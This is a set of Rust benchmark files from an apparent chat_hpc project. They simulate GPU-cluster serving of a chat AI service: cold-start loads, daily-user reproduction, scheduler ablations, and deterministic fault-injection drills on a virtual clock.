    // --- scale_from_zero: one wake, one weight load ----------------------
    let cold_a = run_scale_from_zero(seed);
    let cold_b = run_scale_from_zero(seed);
    if cold_a.trace != cold_b.trace {
        fails.push("scale_from_zero: replay diverged (trace not byte-identical)".into());
    }
    let loads = cold_a
        .trace
        .lines()
        .filter(|l| l.starts_with("load ") && l.contains(&format!("service={COLD_MODEL}")))
        .count();
    if loads != 1 {
        fails.push(format!(
            "scale_from_zero: {loads} weight loads for 5 requests (want exactly 1):\n{}",
            cold_a.trace
        ));
    }
    let cold_done = completed(&cold_a.records).len();
    if cold_done != 5 {
        fails.push(format!("scale_from_zero: {cold_done}/5 requests completed"));
    }
    if let Some(first) = cold_a.records.iter().min_by_key(|r| r.submit_us) {
        // The waker pays the full 35 s modeled load in its latency...
        if first.finish_us - first.submit_us < 35_000_000 {
            fails.push(format!(
                "scale_from_zero: waker finished in {} us — never paid the load",
                first.finish_us - first.submit_us
            ));
        }
        // ...and nobody else does.
        for r in cold_a.records.iter().filter(|r| r.id != first.id) {
            if r.finish_us - r.submit_us > 5_000_000 {
                fails.push(format!(
                    "scale_from_zero: follow-up {} paid {} us — keep-alive let \
                     the replica go cold",
                    r.id,
                    r.finish_us - r.submit_us
                ));
            }
        }
    }

    // --- report ----------------------------------------------------------
    let round = |v: f64| (v * 1000.0).round() / 1000.0;
    let mut report = Json::obj();
    for (name, out, hit_rate) in [
        ("affine", &affine_a, affine_rate),
        ("random", &random_a, random_rate),
        ("scale_from_zero", &cold_a, hit_token_rate(&cold_a.records)),
    ] {
        let m = metrics(&out.records);
        let passed = !fails.iter().any(|f| f.starts_with(name));
        println!(
            "{name:<18} {:>8.2} {:>10.2} {:>10.2} {:>10.2} {:>10.3} {:>8}",
            m.rps,
            m.p50_ms,
            m.p99_ms,
            m.ttft_ms,
            hit_rate,
            if passed { "ok" } else { "FAIL" }
        );
        report = report.set(
            name,
            Json::obj()
                .set("rps", round(m.rps))
                .set("p50_ms", round(m.p50_ms))
                .set("p99_ms", round(m.p99_ms))
                .set("ttft_ms", round(m.ttft_ms))
                .set("hit_token_rate", round(hit_rate))
                .set("affinity_hits", out.affinity_hits)
                .set("passed", if passed { 1.0 } else { 0.0 }),
        );
        traces.push_str(&format!("=== {name} ===\n"));
        traces.push_str(&out.trace);
    }
    report = report
        .set("affinity_ratio", round(if ratio.is_finite() { ratio } else { 1000.0 }))
        .set("cold_loads", loads);

    std::fs::write("BENCH_fleet.json", report.dump())?;
    println!(
        "\nwrote BENCH_fleet.json (affine/random hit-token rate {:.3}/{:.3}, \
         ratio {ratio:.2}x, {loads} cold load)",
        affine_rate, random_rate
    );
    // Cross-process determinism artifact for CI (mirrors SIM_TRACE_OUT).
    if let Some(path) = std::env::var_os("FLEET_TRACE_OUT") {
        std::fs::write(path, &traces)?;
    }
    if !fails.is_empty() {
        for f in &fails {
            println!("  !! {f}");
        }
        println!("fleet routing FAILED");
        std::process::exit(1);
    }
    println!("all sweeps passed");
    Ok(())
}
