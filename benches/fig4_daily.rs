//! Figure 4 reproduction: daily Chat AI users, split new vs returning
//! (paper: 400–500 active on work days, ~100 new; weekend/holiday dips;
//! slight decline at the July summer break).

use chat_hpc::analytics::adoption::{
    date_label, is_holiday, is_weekend, DAY_SUMMER_BREAK, EXTERNAL_MODELS,
};
use chat_hpc::analytics::{aggregate_daily, AdoptionConfig, AdoptionSim, RequestLog};
use chat_hpc::util::bench::{table_header, table_row};

fn main() {
    let cfg = AdoptionConfig::default();
    let log = RequestLog::new();
    let _ = AdoptionSim::new(cfg.clone()).run(&log);
    let days = aggregate_daily(&log, cfg.days, EXTERNAL_MODELS, date_label);

    table_header(
        "Figure 4 — daily users (every 3rd day)",
        &["date", "new", "returning", "daily total", "kind"],
    );
    for d in days.iter().step_by(3) {
        let kind = if is_holiday(d.day) {
            "holiday"
        } else if is_weekend(d.day) {
            "weekend"
        } else {
            "workday"
        };
        table_row(&[
            d.date.clone(),
            d.new_users.to_string(),
            d.returning_users.to_string(),
            d.daily_users().to_string(),
            kind.into(),
        ]);
    }

    let mean = |v: &[u64]| v.iter().sum::<u64>() as f64 / v.len().max(1) as f64;
    let window: Vec<_> = days.iter().filter(|d| (60..120).contains(&d.day)).collect();
    let wd: Vec<u64> =
        window.iter().filter(|d| !is_weekend(d.day) && !is_holiday(d.day)).map(|d| d.daily_users()).collect();
    let we: Vec<u64> =
        window.iter().filter(|d| is_weekend(d.day)).map(|d| d.daily_users()).collect();
    let wd_new: Vec<u64> =
        window.iter().filter(|d| !is_weekend(d.day) && !is_holiday(d.day)).map(|d| d.new_users).collect();

    println!();
    println!("avg workday users (Apr-Jun): {:.0} (paper: 400-500)", mean(&wd));
    println!("avg new users per workday:   {:.0} (paper: ~100)", mean(&wd_new));
    println!(
        "weekday/weekend ratio: {:.1}x -> {}",
        mean(&wd) / mean(&we).max(1.0),
        if mean(&wd) > 2.0 * mean(&we) { "REPRODUCED (clear weekday pattern)" } else { "DIVERGED" }
    );
    let pre_summer: Vec<u64> = days
        .iter()
        .filter(|d| (DAY_SUMMER_BREAK - 21..DAY_SUMMER_BREAK).contains(&d.day) && !is_weekend(d.day))
        .map(|d| d.daily_users())
        .collect();
    let in_summer: Vec<u64> = days
        .iter()
        .filter(|d| d.day >= DAY_SUMMER_BREAK && !is_weekend(d.day))
        .map(|d| d.daily_users())
        .collect();
    println!(
        "summer-break dip: {:.0} -> {:.0} users/workday ({})",
        mean(&pre_summer),
        mean(&in_summer),
        if mean(&in_summer) < mean(&pre_summer) { "REPRODUCED" } else { "DIVERGED" }
    );
}
