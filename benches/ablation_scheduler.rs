//! Scheduler-design ablations (the §5.6 / §7.1.3 choices DESIGN.md calls
//! out), all on the simulated clock:
//!
//! A. autoscaling target-concurrency sweep — instances provisioned and
//!    GPU-hours consumed for a fixed offered load;
//! B. routing policy — random (the paper's choice) vs round-robin vs
//!    least-loaded, measured by load imbalance across instances;
//! C. scale-to-zero on a fixed day/night schedule (§7.1.3's cron design) —
//!    GPU-seconds saved vs the morning cold-start penalty;
//! D. renewal margin — availability gaps across walltime expiry with and
//!    without proactive job renewal;
//! E. schedule-gap scavenger replicas — served throughput and batch-job
//!    wait time with the opportunistic tier on vs off, under a mixed
//!    service+batch workload (the paper's "gaps in the schedule", §1).
//!
//! `--smoke` runs a tiny sweep (A single-point, B shortened, C/D skipped,
//! E a few simulated minutes) in seconds, for CI; the emitted
//! `BENCH_ablation_scheduler.json` carries the E rows either way.

use std::sync::{Arc, Mutex};
use std::time::Duration;

use chat_hpc::scheduler::{
    BackendKind, MockLauncher, RoutingTable, SchedulerConfig, ServiceScheduler, ServiceSpec,
};
use chat_hpc::slurm::{ClusterSpec, JobSpec, SlurmSim};
use chat_hpc::util::bench::{table_header, table_row, BenchArgs, BenchReport};
use chat_hpc::util::clock::{Clock, SimClock};
use chat_hpc::util::metrics::Registry;
use chat_hpc::util::rng::Rng;

fn spec(target: f64, walltime_secs: u64) -> ServiceSpec {
    ServiceSpec {
        name: "m".into(),
        min_instances: 1,
        max_instances: 8,
        target_concurrency: target,
        gpus: 4,
        cpus: 8,
        mem_gb: 64,
        walltime: Duration::from_secs(walltime_secs),
        max_scavengers: 0,
        keep_alive: Duration::ZERO,
        backend: BackendKind::Sim { profile: "llama3-70b".into(), time_scale: 0.0 },
    }
}

fn build(
    spec_: ServiceSpec,
    cfg: SchedulerConfig,
) -> (ServiceScheduler, Arc<SimClock>, Arc<MockLauncher>, Arc<Mutex<SlurmSim>>) {
    let slurm = Arc::new(Mutex::new(SlurmSim::new(ClusterSpec::kisski())));
    let clock = SimClock::new();
    let launcher = MockLauncher::new();
    let sched = ServiceScheduler::new(
        slurm.clone(),
        clock.clone(),
        launcher.clone(),
        vec![spec_],
        cfg,
        Registry::new(),
    );
    (sched, clock, launcher, slurm)
}

fn main() {
    let smoke = BenchArgs::parse().smoke;
    let mut report = BenchReport::new();

    // ---------------- A: target-concurrency sweep -------------------------
    table_header(
        "Ablation A — autoscaling target concurrency (offered load: 16 concurrent)",
        &["target/instance", "instances provisioned", "GPU-seconds (1h)", "avg load/instance"],
    );
    let targets: &[f64] = if smoke { &[4.0] } else { &[2.0, 4.0, 8.0] };
    let a_ticks = if smoke { 120 } else { 720 };
    for &target in targets {
        let (sched, clock, launcher, slurm) =
            build(spec(target, 12 * 3600), SchedulerConfig::default());
        let _guards: Vec<_> = (0..16).map(|_| sched.demand.begin("m")).collect();
        for _ in 0..a_ticks {
            // one hour of 5 s keepalives
            clock.advance(Duration::from_secs(5));
            sched.run_once();
            launcher.all_healthy();
        }
        let instances = sched.routing.instances("m").len();
        // Account GPU time by finishing the hour.
        let usage_gpu_secs = {
            let mut s = slurm.lock().unwrap();
            let now = clock.now_us();
            let ids: Vec<_> = s.squeue().iter().map(|j| j.id).collect();
            for id in ids {
                s.scancel(id, now);
            }
            s.account_usage("svc-chat-ai").gpu_secs
        };
        table_row(&[
            format!("{target}"),
            instances.to_string(),
            format!("{usage_gpu_secs:.0}"),
            format!("{:.1}", 16.0 / instances as f64),
        ]);
    }
    println!("trade-off: lower target = more headroom, more GPUs burned (paper picks a middle threshold)");

    // ---------------- B: routing policy ----------------------------------
    let b_reqs = if smoke { 2_000 } else { 10_000 };
    table_header(
        "Ablation B — load-balancing policy across 4 instances",
        &["policy", "max/min load ratio", "p99 queue depth"],
    );
    for policy in ["random", "round-robin", "least-loaded"] {
        let table = RoutingTable::new();
        for j in 0..4 {
            table.upsert(chat_hpc::scheduler::Instance {
                job_id: j,
                service: "m".into(),
                node: format!("n{j}"),
                port: 20000 + j as u16,
                addr: String::new(),
                ready: true,
                draining: false,
                scavenger: false,
                started_us: 0,
            });
        }
        let mut rng = Rng::new(42);
        let mut inflight = [0i64; 4];
        let mut totals = [0u64; 4];
        let mut depth_samples = Vec::new();
        let mut rr = 0usize;
        // Discrete-event-ish: each arrival lasts `dur` ticks; drain one per
        // step from each instance (service rate 1/tick).
        for _ in 0..b_reqs {
            let target = match policy {
                "random" => table.pick("m", &mut rng).unwrap().job_id as usize,
                "round-robin" => {
                    rr = (rr + 1) % 4;
                    rr
                }
                _ => {
                    // Least-loaded with random tie-break (otherwise index 0
                    // hoards every tie and the totals column is meaningless).
                    let min = *inflight.iter().min().unwrap();
                    let candidates: Vec<usize> =
                        (0..4).filter(|&i| inflight[i] == min).collect();
                    *rng.choose(&candidates).unwrap()
                }
            };
            inflight[target] += 1 + rng.below(3) as i64; // bursty work units
            totals[target] += 1;
            for load in inflight.iter_mut() {
                *load = (*load - 1).max(0);
            }
            depth_samples.push(*inflight.iter().max().unwrap() as f64);
        }
        depth_samples.sort_by(|a, b| a.partial_cmp(b).unwrap());
        let p99 = depth_samples[(depth_samples.len() as f64 * 0.99) as usize];
        let ratio =
            *totals.iter().max().unwrap() as f64 / (*totals.iter().min().unwrap()).max(1) as f64;
        table_row(&[policy.into(), format!("{ratio:.2}"), format!("{p99:.0}")]);
    }
    println!("random is within a hair of least-loaded at this scale — the paper's choice is justified");

    if !smoke {
        // ---------------- C: scale-to-zero day/night cron (§7.1.3) --------
        table_header(
            "Ablation C — scale-to-zero via day/night config swap (24h sim)",
            &["policy", "GPU-seconds", "saving", "morning cold-start (s)"],
        );
        let mut always_on_gpu_secs = 0.0;
        for scale_to_zero in [false, true] {
            let (sched, clock, launcher, slurm) =
                build(spec(4.0, 14 * 3600), SchedulerConfig::default());
            let mut cold_start_secs = 0.0;
            // 24 hours of 1-minute scheduling ticks (coarser for speed).
            for minute in 0..(24 * 60) {
                clock.advance(Duration::from_secs(60));
                let hour = minute / 60;
                if scale_to_zero {
                    // Night shift 20:00-06:00: cron swaps in an empty config.
                    if hour < 6 || hour >= 20 {
                        sched.upsert_service(ServiceSpec {
                            min_instances: 0,
                            max_instances: 0,
                            ..spec(4.0, 14 * 3600)
                        });
                    } else {
                        sched.upsert_service(spec(4.0, 14 * 3600));
                    }
                }
                sched.run_once();
                launcher.all_healthy();
                // Cold start measurement: first minutes after 06:00 without a
                // ready instance.
                if scale_to_zero && hour == 6 && sched.routing.ready_instances("m").is_empty() {
                    cold_start_secs += 60.0;
                }
            }
            let gpu_secs = {
                let mut s = slurm.lock().unwrap();
                let now = clock.now_us();
                let ids: Vec<_> = s.squeue().iter().map(|j| j.id).collect();
                for id in ids {
                    s.scancel(id, now);
                }
                s.account_usage("svc-chat-ai").gpu_secs
            };
            if !scale_to_zero {
                always_on_gpu_secs = gpu_secs;
            }
            table_row(&[
                if scale_to_zero { "day/night cron".into() } else { "always-on".to_string() },
                format!("{gpu_secs:.0}"),
                format!("{:.0}%", 100.0 * (1.0 - gpu_secs / always_on_gpu_secs.max(1.0))),
                format!("{cold_start_secs:.0}"),
            ]);
        }
        println!("the §7.1.3 trade: ~40% GPU time back for a bounded morning cold start");

        // ---------------- D: renewal margin -------------------------------
        table_header(
            "Ablation D — walltime renewal (1h walltime, 6h sim)",
            &["renew margin", "availability gaps (ticks with 0 ready)", "jobs used"],
        );
        for margin_secs in [0u64, 300] {
            let cfg = SchedulerConfig {
                renew_margin: Duration::from_secs(margin_secs),
                ..SchedulerConfig::default()
            };
            let (sched, clock, launcher, _slurm) = build(spec(4.0, 3600), cfg);
            let mut gaps = 0u64;
            let mut jobs = std::collections::BTreeSet::new();
            for _ in 0..(6 * 720) {
                clock.advance(Duration::from_secs(5));
                sched.run_once();
                launcher.all_healthy();
                // An extra cycle so fresh instances get their ready probe.
                sched.run_once();
                if sched.routing.ready_instances("m").is_empty() {
                    gaps += 1;
                }
                for i in sched.routing.instances("m") {
                    jobs.insert(i.job_id);
                }
            }
            table_row(&[
                format!("{margin_secs}s"),
                gaps.to_string(),
                jobs.len().to_string(),
            ]);
        }
        println!("renewal before expiry removes the availability gap at each walltime boundary (§4)");
    }

    // ---------------- E: scavenger replicas under mixed load --------------
    // Offered service demand (48 concurrent) far exceeds what the
    // guaranteed tier may hold (max 4 replicas × target 4 = 16): the
    // overflow can only be served from schedule gaps. A bursty batch
    // workload shares the cluster; the acceptance bar is that scavengers
    // lift served concurrency while batch mean wait stays within 5%.
    table_header(
        "Ablation E — schedule-gap scavenger replicas (48 offered, bursty batch)",
        &[
            "scavengers",
            "avg served concurrency",
            "peak replicas",
            "preemptions",
            "batch jobs started",
            "batch mean wait s",
        ],
    );
    let sim_ticks: u64 = if smoke { 280 } else { 1440 }; // 5 s ticks: ~23 min / 2 h
    let mut e_rows: Vec<(bool, f64, f64, u64)> = Vec::new();
    for scavengers_on in [false, true] {
        let mut svc = spec(4.0, 12 * 3600);
        svc.min_instances = 2;
        svc.max_instances = 4;
        svc.max_scavengers = if scavengers_on { 2 } else { 0 };
        let (sched, clock, launcher, slurm) = build(svc, SchedulerConfig::default());
        slurm.lock().unwrap().set_preempt_grace(Duration::from_secs(60));
        let _guards: Vec<_> = (0..48).map(|_| sched.demand.begin("m")).collect();
        // Identical batch trace in both modes: every 10 min a burst of ten
        // 4-GPU jobs lasting 4-5 min — more than the 24 free GPUs absorb
        // at once, so the tail of each burst queues either way; the queue
        // drains before the next burst, leaving the gap scavengers prey on.
        let mut rng = Rng::new(0xE5);
        let mut served_units = 0.0f64;
        let mut peak = 0usize;
        let mut preemptions = 0u64;
        for tick in 0..sim_ticks {
            clock.advance(Duration::from_secs(5));
            let now = clock.now_us();
            if tick % 120 == 0 {
                for _ in 0..10 {
                    slurm.lock().unwrap().sbatch(
                        JobSpec {
                            name: "batch".into(),
                            account: "batch".into(),
                            gpus_per_node: 4,
                            priority: 1,
                            duration: Some(Duration::from_secs(240 + rng.below(60))),
                            time_limit: Duration::from_secs(600),
                            ..Default::default()
                        },
                        now,
                    );
                }
            }
            let r = sched.run_once();
            preemptions += r.preempted.len() as u64;
            launcher.all_healthy();
            let routable = sched.routing.routable_instances("m").len();
            peak = peak.max(sched.routing.instances("m").len());
            served_units += (routable as f64 * 4.0).min(48.0);
        }
        // Mean wait over ALL batch jobs: one that never started charges
        // its full pending age — otherwise scavengers pushing the tail of
        // the last burst past the sim end would *hide* exactly the delay
        // this check exists to bound.
        let end_us = clock.now_us();
        let (waits, started): (Vec<f64>, usize) = {
            let s = slurm.lock().unwrap();
            let batch: Vec<_> =
                s.squeue().into_iter().filter(|j| j.name == "batch").collect();
            let n = batch.iter().filter(|j| j.start_us.is_some()).count();
            let w: Vec<f64> = batch
                .iter()
                .map(|j| {
                    j.start_us.unwrap_or(end_us).saturating_sub(j.submit_us) as f64 / 1e6
                })
                .collect();
            (w, n)
        };
        let batch_wait = waits.iter().sum::<f64>() / (waits.len().max(1) as f64);
        let served_avg = served_units / sim_ticks as f64;
        table_row(&[
            if scavengers_on { "on" } else { "off" }.to_string(),
            format!("{served_avg:.1}"),
            peak.to_string(),
            preemptions.to_string(),
            started.to_string(),
            format!("{batch_wait:.1}"),
        ]);
        report.entry(
            if scavengers_on { "scavenger_on" } else { "scavenger_off" },
            served_avg,
            batch_wait * 1e3, // p50_ms slot carries batch mean wait (ms)
            0.0,
            0.0,
        );
        e_rows.push((scavengers_on, served_avg, batch_wait, preemptions));
    }
    let e_row = |mode: bool| *e_rows.iter().find(|&&(m, _, _, _)| m == mode).unwrap();
    let (_, off_served, off_wait, off_preempt) = e_row(false);
    let (_, on_served, on_wait, on_preempt) = e_row(true);
    let e_checks = [
        ("scavengers lift served concurrency", on_served > off_served),
        (
            "batch mean wait stays within 5%",
            on_wait <= off_wait * 1.05,
        ),
        ("batch arrivals actually preempt scavengers", on_preempt > 0),
        ("control run records zero preemptions", off_preempt == 0),
    ];
    println!();
    for (name, ok) in e_checks {
        println!("shape check: {name}: {}", if ok { "REPRODUCED" } else { "DIVERGED" });
    }

    report
        .write("BENCH_ablation_scheduler.json")
        .expect("write BENCH_ablation_scheduler.json");
}
