//! Scheduler-design ablations (the §5.6 / §7.1.3 choices DESIGN.md calls
//! out), all on the simulated clock:
//!
//! A. autoscaling target-concurrency sweep — instances provisioned and
//!    GPU-hours consumed for a fixed offered load;
//! B. routing policy — random (the paper's choice) vs round-robin vs
//!    least-loaded, measured by load imbalance across instances;
//! C. scale-to-zero on a fixed day/night schedule (§7.1.3's cron design) —
//!    GPU-seconds saved vs the morning cold-start penalty;
//! D. renewal margin — availability gaps across walltime expiry with and
//!    without proactive job renewal.

use std::sync::{Arc, Mutex};
use std::time::Duration;

use chat_hpc::scheduler::{
    BackendKind, MockLauncher, RoutingTable, SchedulerConfig, ServiceScheduler, ServiceSpec,
};
use chat_hpc::slurm::{ClusterSpec, SlurmSim};
use chat_hpc::util::bench::{table_header, table_row};
use chat_hpc::util::clock::{Clock, SimClock};
use chat_hpc::util::metrics::Registry;
use chat_hpc::util::rng::Rng;

fn spec(target: f64, walltime_secs: u64) -> ServiceSpec {
    ServiceSpec {
        name: "m".into(),
        min_instances: 1,
        max_instances: 8,
        target_concurrency: target,
        gpus: 4,
        cpus: 8,
        mem_gb: 64,
        walltime: Duration::from_secs(walltime_secs),
        backend: BackendKind::Sim { profile: "llama3-70b".into(), time_scale: 0.0 },
    }
}

fn build(
    spec_: ServiceSpec,
    cfg: SchedulerConfig,
) -> (ServiceScheduler, Arc<SimClock>, Arc<MockLauncher>, Arc<Mutex<SlurmSim>>) {
    let slurm = Arc::new(Mutex::new(SlurmSim::new(ClusterSpec::kisski())));
    let clock = SimClock::new();
    let launcher = MockLauncher::new();
    let sched = ServiceScheduler::new(
        slurm.clone(),
        clock.clone(),
        launcher.clone(),
        vec![spec_],
        cfg,
        Registry::new(),
    );
    (sched, clock, launcher, slurm)
}

fn main() {
    // ---------------- A: target-concurrency sweep -------------------------
    table_header(
        "Ablation A — autoscaling target concurrency (offered load: 16 concurrent)",
        &["target/instance", "instances provisioned", "GPU-seconds (1h)", "avg load/instance"],
    );
    for target in [2.0, 4.0, 8.0] {
        let (sched, clock, launcher, slurm) = build(spec(target, 12 * 3600), SchedulerConfig::default());
        let _guards: Vec<_> = (0..16).map(|_| sched.demand.begin("m")).collect();
        for _ in 0..720 {
            // one hour of 5 s keepalives
            clock.advance(Duration::from_secs(5));
            sched.run_once();
            launcher.all_healthy();
        }
        let instances = sched.routing.instances("m").len();
        // Account GPU time by finishing the hour.
        let usage_gpu_secs = {
            let mut s = slurm.lock().unwrap();
            let now = clock.now_us();
            let ids: Vec<_> = s.squeue().iter().map(|j| j.id).collect();
            for id in ids {
                s.scancel(id, now);
            }
            s.account_usage("svc-chat-ai").gpu_secs
        };
        table_row(&[
            format!("{target}"),
            instances.to_string(),
            format!("{usage_gpu_secs:.0}"),
            format!("{:.1}", 16.0 / instances as f64),
        ]);
    }
    println!("trade-off: lower target = more headroom, more GPUs burned (paper picks a middle threshold)");

    // ---------------- B: routing policy ----------------------------------
    table_header(
        "Ablation B — load-balancing policy across 4 instances (10k requests)",
        &["policy", "max/min load ratio", "p99 queue depth"],
    );
    for policy in ["random", "round-robin", "least-loaded"] {
        let table = RoutingTable::new();
        for j in 0..4 {
            table.upsert(chat_hpc::scheduler::Instance {
                job_id: j,
                service: "m".into(),
                node: format!("n{j}"),
                port: 20000 + j as u16,
                addr: String::new(),
                ready: true,
                started_us: 0,
            });
        }
        let mut rng = Rng::new(42);
        let mut inflight = [0i64; 4];
        let mut totals = [0u64; 4];
        let mut depth_samples = Vec::new();
        let mut rr = 0usize;
        // Discrete-event-ish: each arrival lasts `dur` ticks; drain one per
        // step from each instance (service rate 1/tick).
        for _ in 0..10_000 {
            let target = match policy {
                "random" => table.pick("m", &mut rng).unwrap().job_id as usize,
                "round-robin" => {
                    rr = (rr + 1) % 4;
                    rr
                }
                _ => {
                    // Least-loaded with random tie-break (otherwise index 0
                    // hoards every tie and the totals column is meaningless).
                    let min = *inflight.iter().min().unwrap();
                    let candidates: Vec<usize> =
                        (0..4).filter(|&i| inflight[i] == min).collect();
                    *rng.choose(&candidates).unwrap()
                }
            };
            inflight[target] += 1 + rng.below(3) as i64; // bursty work units
            totals[target] += 1;
            for load in inflight.iter_mut() {
                *load = (*load - 1).max(0);
            }
            depth_samples.push(*inflight.iter().max().unwrap() as f64);
        }
        depth_samples.sort_by(|a, b| a.partial_cmp(b).unwrap());
        let p99 = depth_samples[(depth_samples.len() as f64 * 0.99) as usize];
        let ratio =
            *totals.iter().max().unwrap() as f64 / (*totals.iter().min().unwrap()).max(1) as f64;
        table_row(&[policy.into(), format!("{ratio:.2}"), format!("{p99:.0}")]);
    }
    println!("random is within a hair of least-loaded at this scale — the paper's choice is justified");

    // ---------------- C: scale-to-zero day/night cron (§7.1.3) ------------
    table_header(
        "Ablation C — scale-to-zero via day/night config swap (24h sim)",
        &["policy", "GPU-seconds", "saving", "morning cold-start (s)"],
    );
    let mut always_on_gpu_secs = 0.0;
    for scale_to_zero in [false, true] {
        let (sched, clock, launcher, slurm) = build(spec(4.0, 14 * 3600), SchedulerConfig::default());
        let mut cold_start_secs = 0.0;
        // 24 hours of 1-minute scheduling ticks (coarser for speed).
        for minute in 0..(24 * 60) {
            clock.advance(Duration::from_secs(60));
            let hour = minute / 60;
            if scale_to_zero {
                // Night shift 20:00-06:00: cron swaps in an empty config.
                if hour < 6 || hour >= 20 {
                    sched.upsert_service(ServiceSpec { min_instances: 0, max_instances: 0, ..spec(4.0, 14 * 3600) });
                } else {
                    sched.upsert_service(spec(4.0, 14 * 3600));
                }
            }
            sched.run_once();
            launcher.all_healthy();
            // Cold start measurement: first minutes after 06:00 without a
            // ready instance.
            if scale_to_zero && hour == 6 && sched.routing.ready_instances("m").is_empty() {
                cold_start_secs += 60.0;
            }
        }
        let gpu_secs = {
            let mut s = slurm.lock().unwrap();
            let now = clock.now_us();
            let ids: Vec<_> = s.squeue().iter().map(|j| j.id).collect();
            for id in ids {
                s.scancel(id, now);
            }
            s.account_usage("svc-chat-ai").gpu_secs
        };
        if !scale_to_zero {
            always_on_gpu_secs = gpu_secs;
        }
        table_row(&[
            if scale_to_zero { "day/night cron".into() } else { "always-on".to_string() },
            format!("{gpu_secs:.0}"),
            format!("{:.0}%", 100.0 * (1.0 - gpu_secs / always_on_gpu_secs.max(1.0))),
            format!("{cold_start_secs:.0}"),
        ]);
    }
    println!("the §7.1.3 trade: ~40% GPU time back for a bounded morning cold start");

    // ---------------- D: renewal margin ----------------------------------
    table_header(
        "Ablation D — walltime renewal (1h walltime, 6h sim)",
        &["renew margin", "availability gaps (ticks with 0 ready)", "jobs used"],
    );
    for margin_secs in [0u64, 300] {
        let cfg = SchedulerConfig {
            renew_margin: Duration::from_secs(margin_secs),
            ..SchedulerConfig::default()
        };
        let (sched, clock, launcher, _slurm) = build(spec(4.0, 3600), cfg);
        let mut gaps = 0u64;
        let mut jobs = std::collections::BTreeSet::new();
        for _ in 0..(6 * 720) {
            clock.advance(Duration::from_secs(5));
            sched.run_once();
            launcher.all_healthy();
            // An extra cycle so fresh instances get their ready probe.
            sched.run_once();
            if sched.routing.ready_instances("m").is_empty() {
                gaps += 1;
            }
            for i in sched.routing.instances("m") {
                jobs.insert(i.job_id);
            }
        }
        table_row(&[
            format!("{margin_secs}s"),
            gaps.to_string(),
            jobs.len().to_string(),
        ]);
    }
    println!("renewal before expiry removes the availability gap at each walltime boundary (§4)");
}
