//! Chaos drills: the failure-policy acceptance matrix (DESIGN.md §Failure
//! policy), run entirely under virtual time so every drill is
//! deterministic — the same `--seed` produces a byte-identical
//! BENCH_chaos.json on every machine.
//!
//! Four drills over [`SimStack`] + [`FaultPlan`]:
//!
//!   preemption_storm   batch burst outranking the scavenger tier lands
//!                      mid-burst; the guaranteed replica rides it out
//!   lane_flap          the proxy<->cluster link drops for 2 s while
//!                      streams are mid-flight; they freeze, then resume
//!   gray_node          every node runs 4x slow without failing a probe;
//!                      requests finish, visibly slower than healthy
//!   upstream_outage    placement outage + flash crowd; the shed
//!                      watermark refuses the overflow, the rest drain
//!
//! Each drill runs twice and byte-compares its traces (the in-process
//! half of the determinism contract; CI also diffs two full JSON
//! artifacts across processes), then applies shape checks. Any failed
//! check fails the bench with a nonzero exit after writing the report.
//!
//!   cargo bench --bench chaos_drills [-- --smoke] [-- --seed N]

use std::time::Duration;

use chat_hpc::scheduler::ServiceSpec;
use chat_hpc::stack::{SimRecord, SimRequest, SimStack, SimStackConfig};
use chat_hpc::util::bench::{stats, BenchArgs};
use chat_hpc::util::faults::{FaultEvent, FaultPlan};
use chat_hpc::util::json::Json;

const MODEL: &str = "intel-neural-7b";

/// One drill's scenario: the stack configuration plus its workload.
struct Scenario {
    seed: u64,
    plan: FaultPlan,
    shed_watermark: u32,
    spec: ServiceSpec,
    /// (at_us, user, max_tokens) per request.
    arrivals: Vec<(u64, u32, usize)>,
}

struct RunOut {
    trace: String,
    records: Vec<SimRecord>,
}

fn run(sc: &Scenario) -> RunOut {
    let stack = SimStack::start(SimStackConfig {
        seed: sc.seed,
        services: vec![sc.spec.clone()],
        faults: sc.plan.clone(),
        shed_watermark: sc.shed_watermark,
        ..Default::default()
    });
    for &(at_us, user, max_tokens) in &sc.arrivals {
        stack.submit_chat_at(
            at_us,
            SimRequest {
                user: format!("user-{user}"),
                model: MODEL.into(),
                max_tokens,
                ..Default::default()
            },
        );
    }
    assert!(
        stack.run_until_settled(Duration::from_secs(3600)),
        "drill never settled: {} requests still open",
        stack.open_requests()
    );
    RunOut { trace: stack.trace(), records: stack.records() }
}

fn completed(records: &[SimRecord]) -> Vec<&SimRecord> {
    records
        .iter()
        .filter(|r| r.finish_reason == "stop" || r.finish_reason == "length")
        .collect()
}

struct DrillMetrics {
    rps: f64,
    p50_ms: f64,
    p99_ms: f64,
    ttft_ms: f64,
}

/// Latency/throughput shape of a drill, from virtual-time numbers only —
/// the wall clock never leaks into the report.
fn metrics(records: &[SimRecord]) -> DrillMetrics {
    let done = completed(records);
    assert!(!done.is_empty(), "drill completed no requests");
    let lats: Vec<f64> =
        done.iter().map(|r| (r.finish_us - r.submit_us) as f64 / 1e3).collect();
    let ttfts: Vec<f64> =
        done.iter().filter_map(|r| r.ttft_us.map(|t| t as f64 / 1e3)).collect();
    let first = done.iter().map(|r| r.submit_us).min().unwrap();
    let last = done.iter().map(|r| r.finish_us).max().unwrap();
    let window = ((last - first) as f64 / 1e6).max(1e-9);
    let ls = stats(&lats);
    let ts = if ttfts.is_empty() { None } else { Some(stats(&ttfts)) };
    DrillMetrics {
        rps: done.len() as f64 / window,
        p50_ms: ls.p50,
        p99_ms: ls.p99,
        ttft_ms: ts.map(|t| t.p50).unwrap_or(0.0),
    }
}

/// Run a drill twice (replay must be byte-identical), then shape-check.
fn drill(
    name: &str,
    sc: &Scenario,
    check: impl Fn(&RunOut, &mut Vec<String>),
) -> (DrillMetrics, bool, Vec<String>) {
    let a = run(sc);
    let b = run(sc);
    let mut fails = Vec::new();
    if a.trace != b.trace {
        fails.push(format!("{name}: replay diverged (trace not byte-identical)"));
    }
    check(&a, &mut fails);
    (metrics(&a.records), fails.is_empty(), fails)
}

fn main() -> anyhow::Result<()> {
    let args = BenchArgs::parse();
    let (smoke, seed) = (args.smoke, args.seed);
    // Smoke shrinks the workloads, not the drill structure: every fault
    // still fires mid-burst and every shape check still runs.
    let n: u64 = if smoke { 30 } else { 120 };

    println!("chaos drills: seed {seed}, {n} requests/drill{}\n", if smoke { " (smoke)" } else { "" });
    println!(
        "{:<18} {:>8} {:>10} {:>10} {:>10} {:>8}",
        "drill", "rps", "p50 ms", "p99 ms", "ttft ms", "pass"
    );

    let base_spec = ServiceSpec::sim(MODEL, 1.0);
    let mut report = Json::obj();
    let mut all_pass = true;

    // Arrivals start at 40 s (past the 30 s cold start + scheduler ticks).
    let spread = |every_us: u64, max_tokens: usize| -> Vec<(u64, u32, usize)> {
        (0..n).map(|i| (40_000_000 + i * every_us, (i % 9) as u32, max_tokens)).collect()
    };

